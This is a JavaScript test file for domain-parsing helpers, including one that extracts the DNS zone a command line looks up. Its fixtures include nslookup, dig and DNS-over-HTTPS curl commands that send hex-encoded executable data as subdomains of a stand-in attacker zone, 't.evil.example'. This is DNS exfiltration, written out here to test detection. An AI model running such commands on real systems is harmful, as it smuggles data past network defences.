import { lookupZoneOf, parentDomainOf, readHostname } from './domains.js';

describe('parentDomainOf', () => {
  it.each([
    ['a.b.evil.example', 'evil.example'],
    ['evil.example', 'evil.example'],
    ['www.shop.co.uk', 'shop.co.uk'],
    ['co.uk', 'co.uk'],
    ['localhost', null],
    ['203.0.113.7', null],
    ['2001:db8::1', null],
    [null, null],
  ])('finds whose %j is', (hostname, parent) => {
    expect(parentDomainOf(hostname)).toBe(parent);
  });

  it.each([
    ['Pool.Example.COM.', 'pool.example.com'],
    ['', null],
    ['.', null],
    [null, null],
  ])('reads the name %j', (name, hostname) => {
    expect(readHostname(name)).toBe(hostname);
  });
});

describe('lookupZoneOf', () => {
  it.each([
    ['/usr/bin/nslookup 4d5a900003000000.t.evil.example', 't.evil.example'],
    ['dig +short TXT 4d5a900003000000.ffff0000b8000000.t.evil.example @10.0.0.2', 't.evil.example'],
    ['dig _c8a71c01375e359fb012841f57ef101e.shop7.acme.example', 'shop7.acme.example'],
    ['curl -s "https://dns.google/resolve?name=4d5a900003000000.T.evil.example&type=A"', 't.evil.example'],
    ['nslookup www.acme.example', null],
    ['nslookup 4d5a900003000000.example', null],
    ['nslookup', null],
    [null, null],
  ])('finds the zone of %j', (commandLine, zone) => {
    expect(lookupZoneOf(commandLine)).toBe(zone);
  });
});
